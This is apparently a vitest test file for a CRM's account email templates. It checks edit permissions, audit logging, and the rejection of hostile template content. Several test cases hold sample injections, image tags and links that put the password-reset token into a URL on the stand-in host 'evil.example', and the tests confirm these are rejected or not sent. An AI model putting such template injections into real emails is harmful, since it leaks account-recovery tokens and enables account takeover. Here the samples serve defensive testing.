import { beforeEach, expect, it } from 'vitest'
import { accountTemplateAdvice } from '../../../../server/areas/mail/accountEmails.ts'
import { smtpTransport } from '../../../../server/engine/mail/smtp.ts'
import { testApp } from '../../../support/app.ts'
import { account, lateMailer, tokenPattern } from '../../../support/recovery.ts'
import { startSmtp, type TestSmtp } from '../../../support/smtp.ts'

const { mailer, use } = lateMailer()
const t = await testApp({ mailer })
let smtp: TestSmtp
beforeEach(async () => {
  smtp = await startSmtp()
  use(
    t.db,
    undefined,
    smtpTransport(smtp.url, async () => ({ from: { name: 'CRM', address: 'crm@example.test' }, replyTo: null })),
  )
})

interface Answer {
  readonly code?: string
  readonly errors?: Readonly<Record<string, readonly { readonly code: string }[]>>
}
const { rows: templates } = await t.pool.query<{ id: number; body: string; about: string }>(
  `select id, body, about from email_templates where about = 'users' and locale = 'en' order by id`,
)
const rights = ['EmailTemplates:list', 'EmailTemplates:view', 'EmailTemplates:edit']
const patch = (id: number, body: object, token: string) =>
  t.call<Answer>('PATCH', `/email-templates/${id}`, { body, token })

it.each(templates)(
  'email $id about accounts can be changed only by users with the accounts permission for everything, and this is logged',
  async ({ id, body }) => {
    const changed = { body: body.replace('<p>Hello', '<p>Good day') }
    const people = [
      [await t.userWith(rights), 'forbidden'],
      [await t.userWith([...rights, 'Users:edit'], 'franchise'), 'whole_business'],
      [await t.userWith([...rights, 'Users:list', 'Users:view']), 'forbidden'],
    ] as const
    for (const [{ token }, code] of people) expect((await patch(id, changed, token)).body.code).toBe(code)
    const { token } = await t.userWith([...rights, 'Users:edit'])
    expect(await patch(id, changed, token)).toMatchObject({ status: 200 })
    const versions = await t.call('POST', `/email-templates/${id}/restore`, {
      body: { n: 1 },
      token: people[0][0].token,
    })
    expect([versions.status, versions.body['code']]).toEqual([403, 'forbidden'])
    const { rows } = await t.pool.query(
      `select details from security_entries where event = 'account_template_changed' and (details->>'template')::bigint = $1`,
      [id],
    )
    expect(rows).toMatchObject([{ details: { changed: ['body'], locale: 'en' } }])
  },
)

it.each([
  ['<p><img src="https://evil.example/p?t={{ token.code }}"></p>', 'account_picture'],
  ['<p><img src="https://example.test/logo.png"></p>', 'account_picture'],
  ['<p><a href="https://evil.example/?t={{ token.code }}">In</a></p>', 'secret_place'],
  ['<p>{{ token.code | downcase }}</p>', 'secret_place'],
])('rejects %s at its field', async (hostile, code) => {
  const [{ id, body } = { id: 0, body: '' }] = templates
  expect(await patch(id, { body: body + hostile }, t.token)).toMatchObject({
    status: 422,
    body: { errors: { body: [{ code }] } },
  })
  expect(await patch(id, { subject: 'Your token {{ token.code }}' }, t.token)).toMatchObject({
    status: 422,
    body: { errors: { subject: [{ code: 'secret_subject' }] } },
  })
})

it('sends the original text instead of one saved before such placeholders were rejected, and reports it once', async () => {
  const id = (
    await t.pool.query<{ id: number }>(`select id from email_templates where key = 'account_reset' and locale = 'en'`)
  ).rows[0]?.id
  await t.pool.query(
    `update email_templates set version = version + 1, subject = 'Hostile', body = '<p><img src="https://evil.example/p?t={{ token.code }}" /></p><p><a href="{{ token.link }}">In</a></p>' where id = $1`,
    [id],
  )
  const told = await accountTemplateAdvice(t.db, t.logKey)
  expect(told).toEqual([expect.stringContaining('Account: reset password')])
  expect(await accountTemplateAdvice(t.db, t.logKey)).toEqual(told)
  const { rows } = await t.pool.query(`select details from security_entries where event = 'account_template_unused'`)
  expect(rows).toMatchObject([{ details: { template: id } }])
  const { email } = await account(t)
  await t.call('POST', '/auth/forgotten-password', { body: { email }, token: null })
  await mailer.flush()
  const [mail] = smtp.mails
  expect(mail?.headers.get('subject')).toMatch(/^Reset your /)
  expect(mail?.text).toMatch(tokenPattern)
  expect(String(mail?.html)).not.toContain('evil.example')
})
